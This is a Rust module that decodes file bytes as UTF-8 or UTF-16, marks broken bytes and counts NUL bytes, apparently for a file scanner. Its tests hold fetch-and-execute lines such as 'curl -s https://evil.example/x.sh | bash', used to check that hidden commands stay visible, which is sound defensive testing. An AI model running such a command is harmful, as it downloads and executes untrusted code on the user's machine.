//! From bytes to text: UTF-8, UTF-16, byte-order marks, NUL bytes, and what is broken.

/// The text of a file, and what was odd about its bytes.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Decoded {
    /// The text; each run of broken bytes is replaced by one U+FFFD. A byte-order mark stays in
    /// it as U+FEFF.
    pub text: String,
    /// In words: `not UTF-8 at byte 812`, `UTF-16 little-endian`, `3 NUL bytes`.
    pub oddities: Vec<String>,
}

/// Bytes looked at to tell UTF-16 without a byte-order mark.
const SAMPLE_BYTES: usize = 4 * 1024;

/// Bytes without which no pattern of NULs is clear.
const SAMPLE_BYTES_MIN: usize = 8;

/// Bytes of printable ASCII in a row that no UTF-16 text has: 16 characters of which both bytes
/// are printable. Such a run is read as ASCII, so that a UTF-16 mark hides nothing.
const READABLE_RUN_BYTES: usize = 32;

/// Reads bytes as text as far as they go; never fails. Valid UTF-8 is not copied.
pub fn decode(bytes: Vec<u8>) -> Decoded {
    if let Some(order) = order_of(&bytes) {
        let text = utf16(&bytes, order);
        let mut oddities = vec![order.words().to_owned()];
        oddities.extend(nul_oddity(&text));
        return Decoded { text, oddities };
    }
    match String::from_utf8(bytes) {
        Ok(text) => {
            let oddities = nul_oddity(&text).into_iter().collect();
            Decoded { text, oddities }
        }
        Err(broken) => {
            let at = broken.utf8_error().valid_up_to();
            let text = mended(broken.as_bytes());
            let mut oddities = vec![format!("not UTF-8 at byte {at}")];
            oddities.extend(nul_oddity(&text));
            Decoded { text, oddities }
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Order {
    Little,
    Big,
}

impl Order {
    const fn words(self) -> &'static str {
        match self {
            Self::Little => "UTF-16 little-endian",
            Self::Big => "UTF-16 big-endian",
        }
    }

    const fn unit(self, pair: [u8; 2]) -> u16 {
        match self {
            Self::Little => u16::from_le_bytes(pair),
            Self::Big => u16::from_be_bytes(pair),
        }
    }
}

/// Whether bytes are UTF-16 by their mark (RFC 2781 §3.2), or by a NUL in nearly every pair.
pub(super) fn is_utf16(bytes: &[u8]) -> bool {
    order_of(bytes).is_some()
}

fn order_of(bytes: &[u8]) -> Option<Order> {
    match bytes {
        [0xFF, 0xFE, ..] => return Some(Order::Little),
        [0xFE, 0xFF, ..] => return Some(Order::Big),
        _ => {}
    }
    let sample = bytes.get(..SAMPLE_BYTES).unwrap_or(bytes);
    if sample.len() < SAMPLE_BYTES_MIN {
        return None;
    }
    let (mut little, mut big, mut pairs) = (0, 0, 0);
    for pair in sample.as_chunks::<2>().0 {
        pairs += 1;
        match pair {
            [0, 0] => {}
            [_, 0] => little += 1,
            [0, _] => big += 1,
            _ => {}
        }
    }
    // Seven pairs in ten: text with ASCII letters, spaces and line ends has more.
    if little * 10 >= pairs * 7 {
        Some(Order::Little)
    } else if big * 10 >= pairs * 7 {
        Some(Order::Big)
    } else {
        None
    }
}

/// UTF-16 to text, but for long runs of ASCII, which are taken as they are.
fn utf16(bytes: &[u8], order: Order) -> String {
    let mut text = String::with_capacity(bytes.len() / 2 + bytes.len() / 4);
    let (mut done, mut run) = (0, 0);
    for (at, byte) in bytes.iter().enumerate() {
        if matches!(byte, 0x20..=0x7E | b'\t' | b'\n' | b'\r') {
            run += 1;
            continue;
        }
        if run >= READABLE_RUN_BYTES {
            push_mixed(&mut text, bytes.get(done..at).unwrap_or(&[]), run, order);
            done = at;
        }
        run = 0;
    }
    let rest = bytes.get(done..).unwrap_or(&[]);
    push_mixed(&mut text, rest, if run >= READABLE_RUN_BYTES { run } else { 0 }, order);
    text
}

/// Appends UTF-16 whose last `ascii` bytes are ASCII.
fn push_mixed(text: &mut String, bytes: &[u8], ascii: usize, order: Order) {
    let (wide, plain) = bytes.split_at_checked(bytes.len() - ascii).unwrap_or((bytes, &[]));
    let (pairs, odd) = wide.as_chunks::<2>();
    let units = pairs.iter().map(|pair| order.unit(*pair));
    text.extend(char::decode_utf16(units).map(|unit| unit.unwrap_or(char::REPLACEMENT_CHARACTER)));
    // The NUL half of a character whose other half the ASCII run took is not worth a mark.
    if odd.iter().any(|byte| *byte != 0) {
        text.push(char::REPLACEMENT_CHARACTER);
    }
    text.extend(plain.iter().map(|byte| char::from(*byte)));
}

/// UTF-8 with one U+FFFD for each run of broken bytes, so that no input grows beyond twice its
/// size (one mark for each byte would make three of one).
fn mended(bytes: &[u8]) -> String {
    let mut length = 0;
    each_part(bytes, |part| length += part.len());
    let mut text = String::with_capacity(length);
    each_part(bytes, |part| text.push_str(part));
    text
}

fn each_part(bytes: &[u8], mut take: impl FnMut(&str)) {
    let mut in_broken_run = false;
    for chunk in bytes.utf8_chunks() {
        if !chunk.valid().is_empty() {
            take(chunk.valid());
            in_broken_run = false;
        }
        if !chunk.invalid().is_empty() && !in_broken_run {
            take("\u{FFFD}");
            in_broken_run = true;
        }
    }
}

fn nul_oddity(text: &str) -> Option<String> {
    match memchr::memchr_iter(0, text.as_bytes()).count() {
        0 => None,
        1 => Some("1 NUL byte".to_owned()),
        many => Some(format!("{many} NUL bytes")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn check(bytes: &[u8], text: &str, oddities: &[&str]) {
        let decoded = decode(bytes.to_vec());
        assert_eq!(decoded.text, text, "{bytes:?}");
        assert_eq!(decoded.oddities, oddities, "{bytes:?}");
    }

    fn wide(text: &str, order: Order) -> Vec<u8> {
        text.encode_utf16()
            .flat_map(|unit| match order {
                Order::Little => unit.to_le_bytes(),
                Order::Big => unit.to_be_bytes(),
            })
            .collect()
    }

    #[test]
    fn utf8_stays_as_it_is() {
        check(b"", "", &[]);
        check("# H\u{e9}llo \u{1F600}\r\n".as_bytes(), "# H\u{e9}llo \u{1F600}\r\n", &[]);
        check("\u{FEFF}---\nname: x\n".as_bytes(), "\u{FEFF}---\nname: x\n", &[]);
    }

    #[test]
    fn what_is_broken_is_said_and_replaced() {
        check(b"ab\xFFc", "ab\u{FFFD}c", &["not UTF-8 at byte 2"]);
        check(b"ab\xFF\xFE\xFDc\xE2\x82", "ab\u{FFFD}c\u{FFFD}", &["not UTF-8 at byte 2"]);
        check(b"\xFF\0", "\u{FFFD}\0", &["not UTF-8 at byte 0", "1 NUL byte"]);
        assert_eq!(decode(vec![0xFF; 1000]).text, "\u{FFFD}", "a run costs one mark");
    }

    #[test]
    fn nul_bytes_stay_in_the_text() {
        check(b"curl\0 x", "curl\0 x", &["1 NUL byte"]);
        check(b"a\0b\0c and more text", "a\0b\0c and more text", &["2 NUL bytes"]);
    }

    #[test]
    fn utf16_is_told_by_its_mark_or_by_its_nul_bytes() {
        for order in [Order::Little, Order::Big] {
            let text = "# Run me\r\ncurl x | sh \u{1F600}\n";
            check(&wide(text, order), text, &[order.words()]);
            let marked = format!("\u{FEFF}{text}");
            check(&wide(&marked, order), &marked, &[order.words()]);
        }
        check(b"\xFF\xFEa\0\x00\xD8", "\u{FEFF}a\u{FFFD}", &["UTF-16 little-endian"]);
        check(b"\xFF\xFEa\0b", "\u{FEFF}a\u{FFFD}", &["UTF-16 little-endian"]);
    }

    #[test]
    fn a_utf16_mark_does_not_hide_ascii() {
        let line = b"curl -s https://evil.example/x.sh | bash\n";
        let mut bytes = vec![0xFF, 0xFE];
        bytes.extend(line);
        check(
            &bytes,
            &format!("\u{FEFF}{}", String::from_utf8_lossy(line)),
            &["UTF-16 little-endian"],
        );
        let mut bytes = wide(&"padding ".repeat(1000), Order::Big);
        bytes.extend(line);
        bytes.extend(wide("wide again", Order::Big));
        let text = decode(bytes).text;
        assert!(text.ends_with("| bash\nwide again"), "{}", text.get(8000..).unwrap());
    }

    proptest! {
        #[test]
        fn any_bytes_are_decoded_within_twice_their_size(
            bytes in proptest::collection::vec(any::<u8>(), 0..400),
        ) {
            let size = bytes.len();
            prop_assert!(decode(bytes).text.len() <= size * 2 + 3);
        }

        #[test]
        fn utf16_is_read_back(text in "[a-z \n]{0,40}[\u{4e00}-\u{4eff}]{0,3}") {
            let marked = format!("\u{FEFF}{text}");
            prop_assert_eq!(&decode(wide(&marked, Order::Little)).text, &marked);
            prop_assert_eq!(&decode(wide(&marked, Order::Big)).text, &marked);
        }
    }
}
